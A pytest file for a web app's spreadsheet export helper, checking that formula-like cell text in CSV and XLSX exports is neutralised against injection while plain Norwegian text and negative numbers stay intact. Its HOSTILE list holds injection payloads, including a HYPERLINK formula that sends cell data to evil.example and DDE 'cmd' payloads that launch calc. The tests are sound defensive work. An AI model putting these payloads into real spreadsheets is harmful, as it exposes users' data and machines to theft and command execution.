"""The one cell rule for CSV and XLSX exports (app/core/spreadsheets.py), read back as Excel would."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from app.core import spreadsheets

HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1;"Klikk her")', "+SUM(1;2)", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "+47 900 00 000", "- god mat\n- for lite pauser", "-"]
HARMLESS = ["Kárášjoga suohkan", "-5", "-1,5", "-0.25", "47 900 00 000", "a=b", "", "Čáhppes; «sitat»"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_looking_text_gets_an_apostrophe_in_csv_and_keeps_every_character(text):
    assert spreadsheets.looks_like_formula(text)
    assert spreadsheets.csv_value(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_and_plain_negative_numbers_are_left_alone(text):
    assert not spreadsheets.looks_like_formula(text)
    assert spreadsheets.csv_value(text) == text


def test_csv_document_for_norwegian_excel():
    body = spreadsheets.csv_document([["Navn", "Antall", "Snitt", "Dato", "Når"],
                                      [HOSTILE[0], 3, 4.25, date(2027, 4, 20), datetime(2027, 4, 20, 8, 5)],
                                      [None, -2, -0.5, "-5", HOSTILE[-2]]])
    assert body.startswith("\ufeff") and "\r\n" in body
    rows = list(csv.reader(io.StringIO(body[1:], newline=""), delimiter=";"))
    assert rows == [["Navn", "Antall", "Snitt", "Dato", "Når"],
                    ["'" + HOSTILE[0], "3", "4,25", "20.04.2027", "20.04.2027 08:05"],
                    ["", "-2", "-0,5", "-5", "'" + HOSTILE[-2]]]


@pytest.mark.parametrize("write_only", [True, False], ids=["write-only", "normal"])
def test_xlsx_text_is_a_text_cell_without_an_apostrophe_and_numbers_stay_numbers(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("Ark") if write_only else book.active
    values = [*HOSTILE, *HARMLESS[:-2], 7, -5, 4.5, date(2027, 4, 20)]
    sheet.append(spreadsheets.xlsx_cells(sheet, ["Overskrift"], bold=True))
    sheet.append(spreadsheets.xlsx_cells(sheet, values))
    out = io.BytesIO()
    book.save(out)
    header, row = load_workbook(out).worksheets[0].iter_rows()
    assert header[0].font.bold
    found = [(c.value, c.data_type, bool(c.quotePrefix)) for c in row]
    # (XML reads a CR in text back as LF.)
    expected = [(t.replace("\r", "\n"), "s", True) for t in HOSTILE] + [(t, "s", False) for t in HARMLESS[:-2]]
    assert found[:len(expected)] == expected
    assert [(c.value, c.data_type) for c in row[len(expected):len(expected) + 3]] == [(7, "n"), (-5, "n"), (4.5, "n")]
    assert row[-1].is_date and row[-1].number_format == "DD.MM.YYYY"
